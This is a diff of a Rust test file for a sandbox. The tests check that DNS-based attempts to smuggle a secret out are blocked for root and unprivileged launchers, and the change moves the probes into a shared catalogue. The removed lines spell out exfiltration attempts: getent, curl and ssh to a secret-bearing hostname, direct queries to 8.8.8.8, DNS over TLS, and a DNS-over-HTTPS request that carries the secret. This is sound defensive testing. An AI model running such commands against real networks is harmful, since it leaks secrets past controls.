@@ -4,7 +4,7 @@
 //! arrive at all, not even from the proxy on the bottle's behalf. The same attempts run in two bottles, one
 //! launched by root and one by an unprivileged user (`nobody`); the decoys are shared, so a query from either counts.
 
-use std::sync::OnceLock;
+use bottle_probe::catalogue::{DNS, Values};
 
 use crate::decoys::{self, Decoy};
 use crate::lab::{self, Lab};
@@ -19,9 +19,9 @@ struct Dns {
     https: Decoy,
 }
 
-static FAMILY: OnceLock<Result<Dns, String>> = OnceLock::new();
+static FAMILY: scenario::Cells<Dns> = scenario::Cells::new();
 
-fn family() -> Option<&'static Dns> {
+fn family() -> Vec<&'static Dns> {
     scenario::family(&FAMILY, setup, |f| {
         f.runs.tools_present();
     })
@@ -44,59 +44,10 @@ fn setup() -> Dns {
         format!("{resolver}:53")
     };
 
+    let mut values = Values::default();
+    values.set("exfil_name", &name).set("host_resolver", resolver_addr);
     let mut sc = Script::default();
-    sc.tools(&["curl", "getent", "ssh"]);
-    // 14: lookups that would carry the secret in the name
-    sc.probe("c14-getaddrinfo", &["resolve", &name])
-        .shell("c14-getent", &format!("getent hosts {name}"))
-        .shell("c14-getent-ahosts", &format!("getent ahosts {name}"))
-        .shell(
-            "c14-curl-via-proxy",
-            &format!("curl -sS --fail --max-time 5 http://{name}/"),
-        )
-        .shell(
-            "c14-curl-noproxy",
-            &format!("curl -sS --fail --max-time 5 --noproxy '*' http://{name}/"),
-        )
-        .shell(
-            "c14-ssh",
-            &format!("ssh -o BatchMode=yes -o ConnectTimeout=5 git@{name} true"),
-        )
-        .probe("c14-proxy-connect", &["proxy-connect", &format!("{name}:443")]);
-    // 15: straight to public resolvers
-    sc.probe("c15-udp-8888", &["dns-udp", "8.8.8.8:53", &format!("u.{name}")])
-        .probe("c15-tcp-8888", &["dns-tcp", "8.8.8.8:53", &format!("t.{name}")])
-        .probe(
-            "c15-udp-v6",
-            &["dns-udp", "[2001:4860:4860::8888]:53", &format!("u6.{name}")],
-        )
-        .probe(
-            "c15-udp-host-resolver",
-            &["dns-udp", &resolver_addr, &format!("h.{name}")],
-        )
-        .probe("c15-udp-loopback", &["dns-udp", "127.0.0.1:53", &format!("l.{name}")])
-        .probe("c15-udp-stub", &["dns-udp", "127.0.0.53:53", &format!("s.{name}")])
-        .probe("c15-proxy-connect-53", &["proxy-connect", "8.8.8.8:53"]);
-    // 16: DNS over TLS
-    sc.probe("c16-dot-1111", &["dot", "1.1.1.1:853"])
-        .probe("c16-dot-8888", &["dot", "8.8.8.8:853"])
-        .probe("c16-dot-v6", &["dot", "[2001:4860:4860::8888]:853"])
-        .probe("c16-proxy-connect-853-name", &["proxy-connect", "dns.google:853"])
-        .probe("c16-proxy-connect-853-literal", &["proxy-connect", "1.1.1.1:853"]);
-    // 17: the bottle's own resolver
-    sc.probe("c17-resolve-public-name", &["resolve", "example.com"])
-        .probe("c17-resolve-ipv6-name", &["resolve", "ipv6.google.com"])
-        .probe(
-            "c17-resolv-conf-has-no-nameserver",
-            &["read-file", "/etc/resolv.conf", "nameserver"],
-        );
-    // Our own: DNS over HTTPS endpoints through the proxy.
-    sc.probe("x-doh-name", &["proxy-connect", "dns.google:443"])
-        .probe("x-doh-literal", &["proxy-connect", "1.1.1.1:443"])
-        .probe(
-            "x-doh-get",
-            &["proxy-get", &format!("http://cloudflare-dns.com/dns-query?name={name}")],
-        );
+    sc.catalogue(&DNS, &values);
 
     let mut runs = Vec::new();
     for (who, user) in LAUNCHERS {
@@ -129,74 +80,86 @@ fn no_query(f: &Dns) {
 
 #[test]
 fn case_14_secret_in_a_name_never_reaches_a_resolver() {
-    let Some(f) = family() else { return };
-    for id in [
-        "c14-getaddrinfo",
-        "c14-getent",
-        "c14-getent-ahosts",
-        "c14-curl-via-proxy",
-        "c14-curl-noproxy",
-        "c14-ssh",
-    ] {
-        f.runs.held(id);
+    for f in family() {
+        for id in [
+            "c14-getaddrinfo",
+            "c14-getent",
+            "c14-getent-ahosts",
+            "c14-curl-via-proxy",
+            "c14-curl-noproxy",
+            "c14-ssh",
+        ] {
+            f.runs.held(id);
+        }
+        f.runs.refused("c14-proxy-connect");
+        no_query(f);
+        let everything = [&f.dns, &f.dot, &f.https]
+            .iter()
+            .flat_map(|d| d.log.lines())
+            .collect::<Vec<_>>();
+        assert!(
+            !everything.iter().any(|l| l.contains(&f.secret)),
+            "the secret left the bottle: {everything:?}"
+        );
     }
-    f.runs.refused("c14-proxy-connect");
-    no_query(f);
-    let everything = [&f.dns, &f.dot, &f.https]
-        .iter()
-        .flat_map(|d| d.log.lines())
-        .collect::<Vec<_>>();
-    assert!(
-        !everything.iter().any(|l| l.contains(&f.secret)),
-        "the secret left the bottle: {everything:?}"
-    );
 }
 
 #[test]
 fn case_15_queries_to_8_8_8_8_over_udp_and_tcp_are_blocked() {
-    let Some(f) = family() else { return };
-    for id in [
-        "c15-udp-8888",
-        "c15-tcp-8888",
-        "c15-udp-v6",
-        "c15-udp-host-resolver",
-        "c15-udp-loopback",
-        "c15-udp-stub",
-    ] {
-        f.runs.held(id);
+    for f in family() {
+        for id in [
+            "c15-udp-8888",
+            "c15-tcp-8888",
+            "c15-udp-v6",
+            "c15-udp-host-resolver",
+            "c15-udp-loopback",
+            "c15-udp-stub",
+        ] {
+            f.runs.held(id);
+        }
+        f.runs.refused("c15-proxy-connect-53");
+        no_query(f);
     }
-    f.runs.refused("c15-proxy-connect-53");
-    no_query(f);
 }
 
 #[test]
 fn case_16_dns_over_tls_on_853_is_blocked() {
-    let Some(f) = family() else { return };
-    for id in ["c16-dot-1111", "c16-dot-8888", "c16-dot-v6"] {
-        f.runs.held(id);
+    for f in family() {
+        for id in ["c16-dot-1111", "c16-dot-8888", "c16-dot-v6"] {
+            f.runs.held(id);
+        }
+        f.runs.refused("c16-proxy-connect-853-name");
+        f.runs.refused("c16-proxy-connect-853-literal");
+        assert_eq!(f.dot.log.count(), 0, "{:?}", f.dot.log.lines());
     }
-    f.runs.refused("c16-proxy-connect-853-name");
-    f.runs.refused("c16-proxy-connect-853-literal");
-    assert_eq!(f.dot.log.count(), 0, "{:?}", f.dot.log.lines());
 }
 
 #[test]
 fn case_17_the_bottle_has_no_resolver_for_non_allowed_names() {
-    let Some(f) = family() else { return };
-    for id in ["c17-resolve-public-name", "c17-resolve-ipv6-name"] {
-        f.runs.held(id);
+    for f in family() {
+        for id in ["c17-resolve-public-name", "c17-resolve-ipv6-name"] {
+            f.runs.held(id);
+        }
+        for (who, v) in f.runs.held("c17-resolv-conf-has-no-nameserver") {
+            assert!(v.evidence.contains("exists inside the bottle"), "{who}: {v:#?}");
+        }
+        no_query(f);
     }
-    for (who, v) in f.runs.held("c17-resolv-conf-has-no-nameserver") {
-        assert!(v.evidence.contains("exists inside the bottle"), "{who}: {v:#?}");
-    }
-    no_query(f);
 }
 
 #[test]
 fn extra_dns_over_https_endpoints_are_refused_by_the_proxy() {
-    let Some(f) = family() else { return };
-    f.runs.refused("x-doh-name");
-    f.runs.refused("x-doh-literal");
-    f.runs.refused("x-doh-get");
-    assert_eq!(f.https.log.count(), 0, "{:?}", f.https.log.lines());
+    for f in family() {
+        f.runs.refused("x-doh-name");
+        f.runs.refused("x-doh-literal");
+        f.runs.refused("x-doh-get");
+        assert_eq!(f.https.log.count(), 0, "{:?}", f.https.log.lines());
+    }
+}
+
+#[test]
+fn extra_every_dns_catalogue_case_meets_its_expectation() {
+    for f in family() {
+        f.runs.meet_the_catalogue(&DNS);
+    }
 }
